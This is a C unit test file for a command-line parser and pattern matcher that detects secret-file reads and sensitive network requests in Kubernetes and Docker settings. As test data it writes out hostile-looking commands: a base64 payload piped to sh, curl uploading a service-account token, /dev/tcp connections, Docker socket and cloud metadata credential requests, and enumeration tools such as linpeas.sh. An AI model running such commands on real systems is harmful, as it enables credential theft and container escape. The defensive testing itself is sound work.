/* What lines become, what limits do, and that what was understood before is the same from the cache. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdio.h>
#include <cmocka.h>
#include <stdlib.h>
#include <string.h>

#include "base/limits.h"
#include "command/command_cache.h"
#include "command/known_names.h"

static struct arena arena;

static int set_up(void **state)
{
    arena_init(&arena, LIMIT_COMMAND_MEMORY_BYTES);
    return 0;
}

static int tear_down(void **state)
{
    arena_release(&arena);
    return 0;
}

static struct command_line understand(str text)
{
    struct command_line line;
    assert_int_equal(command_understand(&arena, text, &line, NULL), TOCSIN_OK);
    return line;
}

static void assert_text(const char *written, const char *wanted)
{
    struct command_line line = understand(str_from_cstring(written));
    str text;
    assert_int_equal(command_render(&arena, &line, &text, NULL), TOCSIN_OK);
    if (!str_eq(text, str_from_cstring(wanted))) {
        fail_msg("%s\n  gives  %.*s\n  wanted %s", written, STR_ARG(text), wanted);
    }
}

static void lines_are_understood(void **state)
{
    static const char *const cases[][2] = {
        {"kubectl --context prod -n x get po,secret -ojson",
         "kubectl get pods secrets --context=prod --namespace=x --output=json"},
        {"kubectl get secret/a cm/b", "kubectl get secrets/a configmaps/b"},
        {"kubectl get secrets.v1. a", "kubectl get secrets/a"},
        {"kubectl get pushsecrets.external-secrets.io", "kubectl get pushsecrets.external-secrets.io"},
        {"sudo -u root env A=1 timeout -k 5 10 nice -n 5 id -u", "id A=1 -u"},
        {"sh -c 'a; b | c'", "a; b | c"},
        {"sh -c a | b", "a | b"},
        {"a 'b c' \"d $x\" e\\ f", "a b c d $x e f"},
        {"a=b; $a ${a}c \"$a\"", "b bc b"},
        {"$'\\x61' {b,c} x${IFS}y", "a b c x y"},
        {"for x in a b; do cat $x; done < /f", "cat a b; done < /f"},
        {"echo aWQgLXU= | base64 -d | sh", "echo aWQgLXU= | base64 -d | sh; id -u"},
        {"find /x -name 'a*' -exec cat {} +", "find /x a* -name; cat /x/**/a*"},
        {"echo a b | xargs -n1 cat -e", "echo a b | cat a b -e"},
        {"docker container inspect -f '{{.A}}' w", "docker inspect w --format={{.A}}"},
        {"docker inspect -f {{range .A}}{{.}}{{end}} w", "docker inspect w --format={{range .A}}{{.}}{{end}}"},
        {"/tmp/x get secrets -A", "kubectl get secrets --all-namespaces"},
        {"kubectl-view_secret a", "kubectl view-secret a"},
        {"(a; b) | c", "a; b | c"},
        {"cat <<E | sh\nid\nE\nls", "cat | sh; id; ls"},
        {"a 2>&1 >/dev/null <in", "a < in"},
        {"it's a line", "it's a line"},
        {"", ""},
        {";;|&\n()", ""},
    };
    for (size_t i = 0; i < countof(cases); i++) {
        assert_text(cases[i][0], cases[i][1]);
    }
}

static bool matches(enum command_pattern_kind kind, const char *pattern, const char *text)
{
    const struct command_pattern *compiled;
    struct error err = {0};
    if (command_pattern_compile(&arena, kind, str_from_cstring(pattern), &compiled, &err) != TOCSIN_OK) {
        fail_msg("%s: %s", pattern, err.message);
    }
    struct command_line line = understand(str_from_cstring(text));
    return command_patterns_match(&compiled, 1, &arena, &line);
}

static void files_are_found(void **state)
{
    static const char token[] = "/run/secrets/**/token";
    static const char *const read[] = {
        "cat /var/run/secrets/a/token",
        "cat /run//secrets/./b/../a/token",
        "dd if=/run/secrets/a/token",
        "cat /proc/1/root/run/secrets/a/token",
        "cat /host/run/secrets/a/token",
        "cat < /run/secrets/a/token",
        "cd /run/secrets/a; cat token",
        "cat /run/s*/?/t[ou]ken",
        "tar cf - /run/secrets/a",
        "curl -F f=@/run/secrets/a/token u",
        "python3 -c 'open(\"/run/secrets/a/token\")'",
        "find / -name token -exec cat {} ;",
        "kubectl cp p:run/secrets/a/token .",
    };
    static const char *const unread[] = {
        "ls -l /run/secrets/a/token",
        "test -f /run/secrets/a/token",
        "grep /run/secrets/a/token x",
        "cat /run/secrets/a/tokens",
        "find / -name '*.go' -exec cat {} ;",
        "server --token-file /run/secrets/a/token",
        "cat *",
        "echo /run/secrets/a/token",
        "cp x /run/secrets/a/token",
        "find / -name token",
    };
    for (size_t i = 0; i < countof(read); i++) {
        if (!matches(COMMAND_PATTERN_READS, token, read[i])) {
            fail_msg("reads it: %s", read[i]);
        }
    }
    for (size_t i = 0; i < countof(unread); i++) {
        if (matches(COMMAND_PATTERN_READS, token, unread[i])) {
            fail_msg("does not read it: %s", unread[i]);
        }
    }
}

static void requests_are_found(void **state)
{
    assert_true(matches(COMMAND_PATTERN_REQUESTS, "*:2375/a/**", "curl http://h:2375/a/b?c=d"));
    assert_true(matches(COMMAND_PATTERN_REQUESTS, "*:2375", "nc h 2375"));
    assert_true(matches(COMMAND_PATTERN_REQUESTS, "h:2375", "exec 3<>/dev/tcp/h/2375"));
    assert_true(matches(COMMAND_PATTERN_REQUESTS, "[::1]:2375", "curl http://[::1]:2375/"));
    assert_true(matches(COMMAND_PATTERN_REQUESTS, "/a/b", "curl https://h/%61/./b"));
    assert_true(matches(COMMAND_PATTERN_REQUESTS, "unix:/run/docker.sock:/a",
                        "curl --unix-sock /host/var/run/docker.sock http://h/a"));
    assert_true(
        matches(COMMAND_PATTERN_REQUESTS, "unix:/run/docker.sock", "python3 -c 's.connect(\"/run/docker.sock\")'"));
    assert_false(matches(COMMAND_PATTERN_REQUESTS, "*:2375", "curl http://h:23750/"));
    assert_false(matches(COMMAND_PATTERN_REQUESTS, "*:2375", "echo http://h:2375/"));
    assert_false(matches(COMMAND_PATTERN_REQUESTS, "*:2379", "etcd --listen-client-urls=http://h:2379"));
}

/* ---- limits ---- */

static str repeated(const char *part, size_t bytes)
{
    size_t len = strlen(part);
    char *text = arena_allocate(&arena, bytes + len, 1);
    assert_non_null(text);
    size_t at = 0;
    while (at < bytes) {
        memcpy(text + at, part, len);
        at += len;
    }
    return str_from(text, at);
}

static void limits_cut(void **state)
{
    static const char *const parts[] = {"a ",     "a;",    "$(",    "{a,b}",        "`", "'", "\"$(", "${",
                                        "sh -c ", "sudo ", "a -- ", "x=$x$x;a $x;", "<("};
    for (size_t i = 0; i < countof(parts); i++) {
        arena_clear(&arena);
        struct command_line line = understand(repeated(parts[i], LIMIT_COMMAND_BYTES + 1));
        assert_true(line.is_cut);
        assert_true(line.count <= LIMIT_COMMAND_COMMANDS);
    }
    assert_false(understand(STR("sudo nice sh -c 'a; b'")).is_cut);
    /* Lines in lines, wrappers. */
    arena_clear(&arena);
    assert_true(understand(repeated("sh -c ", 6 * (LIMIT_COMMAND_DEPTH + 2))).is_cut);
    assert_true(understand(repeated("nohup ", 6 * (LIMIT_COMMAND_WRAPPERS + 2))).is_cut);
    assert_false(understand(repeated("nohup ", 6 * 4)).is_cut);
    /* A decoded text. */
    char *encoded = arena_allocate(&arena, LIMIT_COMMAND_BYTES, 1);
    assert_non_null(encoded);
    memset(encoded, 'Q', LIMIT_COMMAND_BYTES);
    memcpy(encoded, "echo ", 5);
    memcpy(encoded + LIMIT_COMMAND_BYTES - 16, " | base64 -d | s", 16);
    assert_int_equal(understand(str_from(encoded, LIMIT_COMMAND_BYTES)).count, 3);
}

static void patterns_are_limited(void **state)
{
    const struct command_pattern *pattern;
    struct error err = {0};
    assert_int_equal(command_pattern_compile(&arena, COMMAND_PATTERN_RUNS,
                                             repeated("a", LIMIT_COMMAND_PATTERN_BYTES + 1), &pattern, &err),
                     TOCSIN_ERROR_SYNTAX);
    assert_int_equal(command_pattern_compile(&arena, COMMAND_PATTERN_RUNS,
                                             repeated("a ", 2 * (LIMIT_COMMAND_PATTERN_WORDS + 2)), &pattern, NULL),
                     TOCSIN_ERROR_SYNTAX);
    assert_int_equal(command_pattern_compile(&arena, COMMAND_PATTERN_RUNS, STR("a | b | c | d | e"), &pattern, NULL),
                     TOCSIN_ERROR_SYNTAX);
}

static void cache_gives_the_same(void **state)
{
    struct command_cache *cache = NULL;
    assert_int_equal(command_cache_create(7, &cache, NULL), TOCSIN_OK);
    char text[32];
    for (int round = 0; round < 2; round++) {
        for (int i = 0; i < 30000; i++) { /* more than it holds; one buffer, as a batch's */
            const struct command_line *line;
            snprintf(text, sizeof(text), "sudo tool%d x", i);
            assert_int_equal(command_cache_understand(cache, str_from_cstring(text), &line, NULL), TOCSIN_OK);
            snprintf(text, sizeof(text), "tool%d", i);
            assert_int_equal(line->count, 1);
            assert_true(str_eq(line->commands[0].tool, str_from_cstring(text)));
        }
    }
    const struct command_line *line;
    assert_int_equal(command_cache_understand(cache, repeated("a ", LIMIT_COMMAND_CACHED_BYTES + 2), &line, NULL),
                     TOCSIN_OK);
    assert_int_equal(line->count, 1);
    command_cache_free(cache);
    command_cache_free(NULL);
}

/* ---- sets of patterns -------------------------------------------------------------------------------------------- */

static uint64_t random_state = 42;

static uint32_t random_below(uint32_t bound)
{
    random_state = random_state * 6364136223846793005u + 1442695040888963407u;
    return (uint32_t)(random_state >> 33) % bound;
}

static const char *pick(const char *const *items, size_t count)
{
    return items[random_below((uint32_t)count)];
}

/* Tools, paths and places as the packs' patterns and attackers' lines spell them, joined at random. */
/* clang-format off */
static const char *const line_parts[] = {
    "kubectl", "KUBECTL", "k\"\"ubectl", "/opt/x/kubectl-1.29", "docker", "do'ck'er", "nerdctl", "crictl", "find",
    "sudo", "sh -c '", "bash -c \"", "env A=1", "xargs", "curl", "curl --unix-socket", "nc", "cat", "head -1",
    "tar cz", "cp -r", "grep -r", "deepce.sh", "DeepCE", "linpeas.sh", "echo", "base64 -d", "python3 -c 'open(\"",
    "\")'", "get", "secrets", "secret/a", "exec", "-it", "pod", "--", "inspect", "-ojson", "--help", "cp", "logs",
    "|", "|", ";", "&&", "<", "'", "\"", "$(", ")", "`", "$X", "X=kubectl;", "$'\\x6bubectl'", "k?bectl", "*",
    "/run/secrets/a/token", "/var/run/SECRETS/b/../b/token", "/run/secrets", "/host/run/secrets/a/token",
    "/proc/1/environ", "/proc/1/root/run/secrets/k/token", "/etc/kubernetes/admin.conf", "~/.kube/config",
    "/run/s*/a/t?ken", "/run/secrets/*", "/var/lib/kubelet", "/r{un,x}/secrets/a/token", "//run//secrets/./a/token",
    "token", "unix:///run/docker.sock", "/var/run/docker.sock", "http://10.0.0.1:2375/containers/json",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/x", "https://k:6443/api/v1/secrets",
    "-F f=@/run/secrets/a/token", "Y2F0IC9ydW4vc2VjcmV0cy9hL3Rva2Vu", "| base64 -d | sh", "tee", "jq .data.password",
    "grep -i password", "--output=json", "eval", "ssh root@h", "find / -name token -exec cat {} +"};
/* clang-format on */

static str random_line(char *buffer, size_t room)
{
    size_t len = 0;
    for (uint32_t i = 1 + random_below(9); i > 0; i--) {
        const char *blank = random_below(8) ? " " : "";
        int written = snprintf(buffer + len, room - len, "%s%s", pick(line_parts, countof(line_parts)), blank);
        len += (size_t)written;
        assert_true(len < room);
    }
    return str_from(buffer, len);
}

static const char *const pattern_pool[3][24] = {
    {"kubectl get secrets",
     "kubectl get|describe secrets|secret/*",
     "kubectl exec",
     "@docker inspect",
     "docker cp",
     "deepce*",
     "linpeas*",
     "* | base64|jq",
     "* | @filter ~@credential",
     "cat | base64 | @shell",
     "find ~token",
     "@inside cat",
     "cat|head|tail ~**token**",
     "curl --unix-socket",
     "!kubectl get --help",
     "!* --output=json",
     "crictl",
     "nc|curl|tar",
     "!cat .",
     "?ubectl get",
     "kubectl|docker cp|exec|logs",
     "env",
     "* --help",
     "@shell"},
    {"/run/secrets/**/token",
     "/run/secrets/**",
     "/proc/*/environ",
     "~/.kube/config",
     "/etc/kubernetes/**",
     "**/*token*",
     "/run/secrets/*",
     "!/run/secrets/b/**",
     "/var/lib/kubelet/**",
     "**/admin.conf",
     "/run/docker.sock",
     "/run/secrets/?/token",
     "!**/environ",
     "**/.e*",
     "/host/**",
     "**",
     "/**/[a]/*",
     "!**/*token*",
     "/run/*/a/*",
     "/etc/shadow",
     "/**",
     "/proc/1/environ",
     "**/config",
     "/run/SECRETS/a/TOKEN"},
    {"unix:/run/docker.sock",
     "unix:/run/docker.sock:/containers/**",
     "*:2375",
     "*:2375/containers/**",
     "169.254.169.254/**/security-credentials**",
     "*:6443/api/**",
     "!*:2375/containers/json",
     "/api/v1/**",
     "unix:*",
     "10.0.0.1:*",
     "!unix:*",
     "k:6443",
     "/**/secrets",
     "*",
     "169.254.*:80/**",
     "/containers/*",
     "unix:/run/**",
     "!k:*",
     "*:443",
     "k:*/api/**",
     "/latest/**",
     "*:80",
     "10.0.0.*:*/**",
     "!/latest/**"},
};

static void sets_match_as_their_patterns(void **state)
{
    enum { SETS = 60, LINES = 4000 };
    const struct command_pattern_set *sets[SETS];
    const struct command_pattern *patterns[SETS][6];
    uint32_t counts[SETS];
    struct arena kept; /* sets and patterns; the other arena is cleared for each line */
    struct command_cache *cache = NULL;
    uint32_t matched[3] = {0};
    char buffer[1024];
    arena_init(&kept, ARENA_NO_LIMIT);
    assert_int_equal(command_cache_create(3, &cache, NULL), TOCSIN_OK);
    for (uint32_t i = 0; i < SETS; i++) {
        enum command_pattern_kind kind = (enum command_pattern_kind)(i % 3);
        str texts[6];
        counts[i] = i < 3 ? 6 : random_below(7);
        for (uint32_t n = 0; n < counts[i]; n++) {
            texts[n] = str_from_cstring(pick(pattern_pool[kind], countof(pattern_pool[kind])));
            assert_int_equal(command_pattern_compile(&kept, kind, texts[n], &patterns[i][n], NULL), TOCSIN_OK);
        }
        assert_int_equal(command_pattern_set_compile(&kept, kind, texts, counts[i], &sets[i], NULL), TOCSIN_OK);
    }
    for (uint32_t l = 0; l < LINES; l++) {
        str text = random_line(buffer, sizeof(buffer));
        arena_clear(&arena);
        struct command_line line = understand(text);
        for (uint32_t i = 0; i < SETS; i++) {
            bool wanted = command_patterns_match(patterns[i], counts[i], &arena, &line);
            for (int again = 0; again < 2; again++) {
                bool is_match = !wanted;
                assert_int_equal(command_cache_matches(cache, sets[i], command_cache_set_number(cache, sets[i]), l,
                                                       text, &is_match, NULL),
                                 TOCSIN_OK);
                if (is_match != wanted) {
                    fail_msg("set %u, which %s: %.*s", i, wanted ? "matches" : "does not match", STR_ARG(text));
                }
            }
            matched[i % 3] += wanted;
        }
    }
    for (int kind = 0; kind < 3; kind++) {
        assert_true(matched[kind] > 500);
    }
    command_cache_free(cache);
    arena_release(&kept);
}

/* A line that has no room for what it reads is still compared. */
static void facts_without_room_give_the_same(void **state)
{
    const struct command_pattern_set *set;
    const str texts[] = {STR("/run/secrets/**/token")};
    assert_int_equal(command_pattern_set_compile(&arena, COMMAND_PATTERN_READS, texts, 1, &set, NULL), TOCSIN_OK);
    struct command_facts facts = {.line = understand(STR("cat /etc/passwd /run/secrets/a/token"))};
    struct arena none;
    arena_init(&none, 1);
    assert_true(command_pattern_set_matches(set, &facts, &none, &arena));
    arena_release(&none);
}

/* More sets than answers are kept for, and sets that are the same. */
static void cache_numbers_sets(void **state)
{
    enum { MANY = 900 };
    struct command_cache *cache = NULL;
    const struct command_pattern_set *sets[MANY];
    char name[32];
    assert_int_equal(command_cache_create(3, &cache, NULL), TOCSIN_OK);
    for (int round = 0; round < 2; round++) {
        for (int i = 0; i < MANY; i++) {
            snprintf(name, sizeof(name), "tool%d", i / 2);
            str text = str_from_cstring(name);
            if (round == 0) {
                assert_int_equal(command_pattern_set_compile(&arena, COMMAND_PATTERN_RUNS, &text, 1, &sets[i], NULL),
                                 TOCSIN_OK);
            }
            uint32_t number = command_cache_set_number(cache, sets[i]);
            assert_true(i % 2 == 0 || number == UINT32_MAX || number == command_cache_set_number(cache, sets[i - 1]));
            for (int last = 0; last < 2; last++) {
                bool is_match = false;
                str line = last ? STR("sudo tool1 x") : text;
                assert_int_equal(command_cache_matches(cache, sets[i], number, 0, line, &is_match, NULL), TOCSIN_OK);
                assert_int_equal(is_match, !last || i / 2 == 1);
            }
        }
    }
    command_cache_free(cache);
}

static void names_are_known(void **state)
{
    assert_true(name_is(STR("cat"), NAME_READING));
    assert_true(name_is(STR("ls"), NAME_LOOKING));
    assert_non_null(known_name(STR("sudo"))->wrapper);
    assert_non_null(known_name(STR("kubectl"))->tool);
    assert_int_equal(known_name(STR("no-such-tool"))->kinds, 0);
    assert_int_equal(known_name(repeated("a", LIMIT_COMMAND_NAME_BYTES + 1))->kinds, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(lines_are_understood, set_up, tear_down),
        cmocka_unit_test_setup_teardown(files_are_found, set_up, tear_down),
        cmocka_unit_test_setup_teardown(requests_are_found, set_up, tear_down),
        cmocka_unit_test_setup_teardown(limits_cut, set_up, tear_down),
        cmocka_unit_test_setup_teardown(patterns_are_limited, set_up, tear_down),
        cmocka_unit_test_setup_teardown(cache_gives_the_same, set_up, tear_down),
        cmocka_unit_test_setup_teardown(sets_match_as_their_patterns, set_up, tear_down),
        cmocka_unit_test_setup_teardown(facts_without_room_give_the_same, set_up, tear_down),
        cmocka_unit_test_setup_teardown(cache_numbers_sets, set_up, tear_down),
        cmocka_unit_test_setup_teardown(names_are_known, set_up, tear_down),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
